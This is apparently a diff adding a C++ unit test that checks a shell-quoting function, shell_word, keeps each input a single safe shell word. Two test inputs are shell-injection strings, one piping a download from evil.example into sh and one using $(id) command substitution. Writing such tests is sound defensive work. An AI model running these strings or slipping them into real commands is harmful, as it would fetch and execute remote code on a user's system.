@@ -26,5 +26,12 @@ TEST_CASE("quoted text keeps printable characters of any script and escapes brok
   CHECK(quoted("\xf4\x90\x80\x80") == R"("\xf4\x90\x80\x80")");
 }
 
+TEST_CASE("A28: a word for a shell has one meaning there") {
+  CHECK(shell_word("system:serviceaccount:a:b") == "system:serviceaccount:a:b");
+  CHECK(shell_word("x; curl evil.example | sh #") == "'x; curl evil.example | sh #'");
+  CHECK(shell_word("it's $(id)") == "'it'\\''s $(id)'");
+  CHECK(shell_word("").size() == 2);
+}
+
 }  // namespace
 }  // namespace kinf
